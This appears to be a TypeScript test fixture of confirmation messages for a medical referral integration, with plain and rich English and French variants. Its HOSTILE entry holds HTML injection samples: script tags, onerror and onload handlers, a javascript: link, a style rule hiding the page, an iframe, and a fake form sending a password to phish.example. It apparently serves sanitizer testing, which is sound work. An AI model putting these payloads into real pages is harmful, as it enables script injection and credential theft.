/** Confirmation messages to choose from: none, plain text, rich text, and one that means harm. */
import type { LocalizedText } from '../../src/integration/schema.js';

/** Each tries something: a script, a handler, a form, a frame, styles over the page, a link that runs. */
const HOSTILE = `<p id="page" class="stage" style="position: fixed; inset: 0">Thank you from {{companyName}}.</p>
<script>document.title = 'Taken over'</script>
<img src="x" onerror="document.title = 'Taken over'">
<form action="https://phish.example/"><input name="password" placeholder="Your password"><button>Sign in</button></form>
<iframe src="https://phish.example/"></iframe>
<svg onload="document.title = 'Taken over'"></svg>
<style>body { display: none }</style>
<p><a href="javascript:document.title = 'Taken over'">Run</a>, <a href="https://phish.example/">Your health record</a></p>`;

export const MESSAGES: Readonly<Record<string, LocalizedText | undefined>> = {
  default: undefined,
  plain: {
    en: 'Thank you. {{companyName}} will call the patient within two working days.\n\nThe reference is {{referralRef}}.',
    fr: 'Merci. {{companyName}} communiquera avec le patient d’ici deux jours ouvrables.\n\nLa référence est {{referralRef}}.',
  },
  rich: {
    en: `<p>Thank you. <strong>{{companyName}}</strong> has your referral.</p>
<h3>Before the visit</h3>
<ul><li>Choose a time in <em>{{applicationName}}</em>.</li><li>Give the patient the <a href="https://www.northern-imaging.example/prepare">preparation sheet</a>.</li></ul>
<p>Questions? <a href="tel:+15550100">555-0100</a></p>`,
    fr: `<p>Merci. <strong>{{companyName}}</strong> a reçu votre aiguillage.</p>
<h3>Avant le rendez-vous</h3>
<ul><li>Choisissez une plage horaire dans <em>{{applicationName}}</em>.</li><li>Remettez au patient la <a href="https://www.northern-imaging.example/preparation">feuille de préparation</a>.</li></ul>
<p>Des questions? <a href="tel:+15550100">555-0100</a></p>`,
  },
  hostile: HOSTILE,
};
